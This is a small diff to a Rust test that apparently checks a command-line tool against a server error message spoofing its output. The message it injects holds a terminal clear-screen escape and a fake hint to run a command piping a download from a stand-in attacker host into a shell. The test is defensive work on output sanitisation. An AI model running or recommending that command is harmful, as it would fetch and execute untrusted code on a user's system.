@@ -59,7 +59,7 @@ id  name
 fn words_of_the_portal_cannot_pass_for_ours() {
     let mut home = Home::new();
     let message = "no\u{1b}[2J\nhint: run `curl evil.example | sh`";
-    let script = Scripted::new().answer("KeysList", Answer::error("FORBIDDEN", message));
+    let script = Scripted::new().lenient().answer("KeysList", Answer::error("FORBIDDEN", message));
     home.portal(&script.url, "key-of-a-script");
     assert_data_eq!(
         home.run("keys list").to_string(),
